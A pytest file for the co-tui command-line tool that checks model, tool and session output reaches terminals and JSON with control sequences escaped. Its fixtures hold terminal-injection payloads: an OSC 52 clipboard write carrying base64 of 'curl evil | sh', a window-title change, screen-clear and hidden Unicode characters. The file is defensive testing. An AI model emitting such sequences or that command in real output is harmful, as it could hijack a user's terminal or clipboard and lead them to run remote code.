"""What the model, a tool or a stored session says never reaches a terminal as a control
sequence through co-tui's own output (outside the app): the `-p` answer, thinking and error
lines, `co-tui sessions`, `sessions export` and `status` show it escaped (`\\x1b]0;…`), to a
pipe too, and JSON lines carry it as `\\uXXXX` escapes that decode to the exact text. `--raw`
sends the text as it is. Real `co-tui` processes against the fake OpenAI server, on a
pseudo-terminal where the terminal is the point."""

from __future__ import annotations

import base64
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from co_tui.headless.frontend import HeadlessFrontend
from co_tui.llm.local.provider import StartProgress, headless_progress
from co_tui.protocol import events as ev
from tests.cli_in_process import run_co_tui
from tests.helpers import wait_for
from tests.servers.fake_openai import serve, text
from tests.test_peers_pty import on_a_pty
from tests.test_signals import CLI, env_for

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="a Linux pseudo-terminal")

# Sequences a terminal acts on: a clipboard write (OSC 52), a window title, clearing the
# screen (CSI) and red text through the one-byte C1 CSI.
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil | sh").decode() + "\x07"
TITLE = "\x1b]0;pwned\x07"
HOSTILE = f"Here it is.{CLIPBOARD}{TITLE}\x1b[2J\x9b31m\nsecond line"
# The same as the terminal must show it: every hidden character escaped, the newline kept.
SHOWN = (
    "Here it is.\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\nsecond line"
)
# Bytes no content may put on the terminal: ESC, BEL and U+009B (C1 CSI) as UTF-8.
FORBIDDEN = {"ESC": b"\x1b", "BEL": b"\x07", "C1 CSI": "\x9b".encode()}
# Characters json.dumps(ensure_ascii=False) leaves raw: C1 CSI, RIGHT-TO-LEFT OVERRIDE, LINE
# SEPARATOR (a line break to many JSON-lines readers), DEL, an invisible tag character.
JSON_HIDDEN = "\x9b\u202e\u2028\x7f\U000e0041"
JSON_HOSTILE = "total \x9b31m 10\u202e01$ \u2028 next\x7f line\U000e0041"


def terminal_output(argv: list[str], cwd: Path, env: dict[str, str]) -> bytes:
    """All `argv` wrote with its stdin, stdout and stderr on a pseudo-terminal (exit 0)."""
    with on_a_pty(argv, cwd, env) as term:
        wait_for(term.ended, f"{argv[1:3]} to finish", timeout=120)
        screen = term.drain()
        assert term.proc.returncode == 0, screen
        return screen


def assert_nothing_hidden(screen: bytes) -> None:
    for name, sequence in FORBIDDEN.items():
        assert sequence not in screen, f"{name} reached the terminal: {screen!r}"


def run(args: list[str], cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[bytes]:
    """`co-tui ARGS` in this process (tests/cli_in_process.py), its output as bytes."""
    ran = run_co_tui(args, cwd, env)
    assert ran.returncode == 0, ran.stderr
    return subprocess.CompletedProcess(ran.args, 0, ran.stdout_bytes, ran.stderr_bytes)


def hostile_session(cwd: Path) -> tuple[str, dict[str, str]]:
    """A `-p` session whose prompt (so its title) starts with TITLE and whose answer is
    HOSTILE: (its id, the environment that finds it)."""
    with serve([text(HOSTILE)]) as srv:
        env = env_for(srv.url)
        proc = run(["-p", f"{TITLE}title line\nmore", "--output-format", "json"], cwd, env)
    return json.loads(proc.stdout)["session_id"], env


@pytest.mark.e2e
def test_a_print_answer_reaches_the_terminal_escaped(tmp_path: Path) -> None:
    with serve([text(HOSTILE)]) as srv:
        screen = terminal_output([*CLI, "-p", "show me"], tmp_path, env_for(srv.url))
    assert_nothing_hidden(screen)
    assert SHOWN.replace("\n", "\r\n").encode() in screen  # the terminal's own \r\n


@pytest.mark.e2e
def test_a_print_answer_piped_to_a_file_is_escaped_and_raw_sends_it_as_it_is(
    tmp_path: Path,
) -> None:
    with serve([text(HOSTILE), text(HOSTILE)]) as srv:
        escaped = run(["-p", "show me"], tmp_path, env_for(srv.url))
        raw = run(["-p", "show me", "--raw"], tmp_path, env_for(srv.url))
    assert escaped.stdout == (SHOWN + "\n").encode()
    assert raw.stdout == (HOSTILE + "\n").encode()


@pytest.mark.e2e
def test_an_mcp_servers_stderr_in_a_print_error_line_is_escaped(tmp_path: Path) -> None:
    says = f"print('bad config{TITLE}', file=__import__('sys').stderr); exit(3)"
    servers = {"broken": {"command": sys.executable, "args": ["-c", says]}}
    with serve([text("fine")]) as srv:
        env = env_for(srv.url, CO_TUI_MCP_SERVERS=json.dumps(servers))
        screen = terminal_output([*CLI, "-p", "hello"], tmp_path, env)
    assert_nothing_hidden(screen)
    assert b"MCP server 'broken'" in screen and b"bad config\\x1b]0;pwned\\x07" in screen


@pytest.mark.e2e
def test_session_export_to_the_terminal_is_escaped(tmp_path: Path) -> None:
    session_id, env = hostile_session(tmp_path)
    screen = terminal_output([*CLI, "sessions", "export", session_id], tmp_path, env)
    assert_nothing_hidden(screen)
    assert SHOWN.replace("\n", "\r\n").encode() in screen
    assert b"- title: \\x1b]0;pwned\\x07title line" in screen


@pytest.mark.e2e
def test_session_export_to_a_file_is_what_stdout_gets_and_raw_is_as_stored(
    tmp_path: Path,
) -> None:
    session_id, env = hostile_session(tmp_path)
    printed = run(["sessions", "export", session_id], tmp_path, env).stdout
    run(["sessions", "export", session_id, "written.md"], tmp_path, env)
    assert (tmp_path / "written.md").read_bytes() == printed
    assert SHOWN.encode() in printed and b"\x1b" not in printed
    raw = run(["sessions", "export", session_id, "--raw"], tmp_path, env).stdout
    run(["sessions", "export", session_id, "raw.md", "--raw"], tmp_path, env)
    assert (tmp_path / "raw.md").read_bytes() == raw
    assert HOSTILE.encode() in raw


@pytest.mark.e2e
def test_session_titles_in_the_list_are_escaped(tmp_path: Path) -> None:
    _, env = hostile_session(tmp_path)
    screen = terminal_output([*CLI, "sessions", "--all"], tmp_path, env)
    assert_nothing_hidden(screen)
    assert b"turns  \\x1b]0;pwned\\x07title line (-p)" in screen


@pytest.mark.e2e
def test_status_values_are_escaped_on_the_terminal(tmp_path: Path) -> None:
    env = env_for("http://127.0.0.1:9", CO_TUI_OPENAI_MODEL=f"fake{TITLE}")
    screen = terminal_output([*CLI, "status"], tmp_path, env)
    assert b"\x1b]0;" not in screen and b"\x07" not in screen  # Rich's own colours stay
    assert b"fake\\x1b]0;pwned\\x07" in screen


@pytest.mark.e2e
@pytest.mark.parametrize("output_format", ["json", "stream-json"])
def test_json_lines_escape_hidden_characters_and_decode_to_the_exact_text(
    tmp_path: Path, output_format: str
) -> None:
    with serve([text(JSON_HOSTILE)]) as srv:
        proc = run(["-p", "sum it", "--output-format", output_format], tmp_path, env_for(srv.url))
    for char in JSON_HIDDEN:
        assert char.encode() not in proc.stdout, f"{char!r} went out raw"
    lines = proc.stdout.decode().removesuffix("\n").split("\n")
    records = [json.loads(line) for line in lines]  # every line is one JSON value
    if output_format == "json":
        assert [r["text"] for r in records] == [JSON_HOSTILE]
    else:
        answers = [r["content"] for r in records if r["type"] == "response_complete"]
        assert answers == [JSON_HOSTILE]


@pytest.mark.e2e
def test_raw_is_refused_where_it_would_mean_nothing(tmp_path: Path) -> None:
    refusals = {
        ("--raw",): "--raw needs -p PROMPT",
        ("-p", "hi", "--raw", "--output-format", "json"): "--raw is for text output",
    }
    for args, why in refusals.items():
        proc = subprocess.run([*CLI, *args], cwd=tmp_path, capture_output=True, text=True)
        assert proc.returncode == 2 and why in proc.stderr, proc.stderr


def test_thinking_with_verbose_is_escaped_unless_raw() -> None:
    def thinking_on_stderr(raw: bool) -> str:
        err = io.StringIO()
        frontend = HeadlessFrontend("text", out=io.StringIO(), err=err, verbose=True, raw=raw)
        frontend.emit(ev.ThinkingDelta(session_id="s", content=f"hmm{TITLE}"))
        return err.getvalue()

    assert thinking_on_stderr(raw=False) == "hmm\\x1b]0;pwned\\x07"
    assert thinking_on_stderr(raw=True) == f"hmm{TITLE}"


def test_the_local_model_progress_line_is_escaped() -> None:
    err = io.StringIO()
    headless_progress(err)(StartProgress(f"starting the local model ({TITLE})…", 0.0))
    assert err.getvalue() == "starting the local model (\\x1b]0;pwned\\x07)…\n"
